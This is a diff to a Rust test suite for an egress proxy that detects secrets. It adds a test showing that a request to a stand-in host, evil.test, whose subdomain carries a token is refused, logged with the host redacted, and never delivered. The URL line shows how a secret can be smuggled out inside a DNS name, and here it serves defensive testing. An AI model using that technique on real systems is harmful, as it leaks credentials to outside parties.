@@ -151,3 +151,22 @@ async fn report_answers_a_dns_name_carrying_a_secret_and_records_it_flagged_with
     assert!(upstream.queried_names().is_empty());
     super::shown::assert_never_shown(&proxy, &[GITHUB], &[]).await;
 }
+
+#[tokio::test]
+async fn report_mode_records_a_name_carrying_a_secret_by_the_secret_when_refused_anyway() {
+    let policy = allowlist_json(&["allowed.test"]);
+    let (sink, proxy) = start("report", "refused-anyway", &policy).await;
+    let lower = GITHUB.to_ascii_lowercase();
+    // Not allowed: refused whatever the detector says, and the token is the reason
+    // recorded, so neither the record nor the answer names the host that carries it.
+    let url = format!("http://{lower}.evil.test:{}/", sink.port());
+    let answer = crate::support::client::get_via_proxy(proxy.addr, &url, &[]).await;
+    assert_eq!(answer.status, 403, "{}", answer.text());
+    assert_eq!(answer.json()["error"]["reason"], "secret_detected");
+    let denied = dlp_records(&proxy, "egress.denied", 1).await;
+    assert_eq!(denied.len(), 1, "{}", proxy.diagnostics());
+    assert_eq!(denied[0]["host"], "[redacted]", "{}", denied[0]);
+    assert_eq!(denied[0]["dlp"]["found_in"], "target", "{}", denied[0]);
+    assert!(sink.bytes().is_empty());
+    super::shown::assert_never_shown(&proxy, &[GITHUB], &[answer.text()]).await;
+}
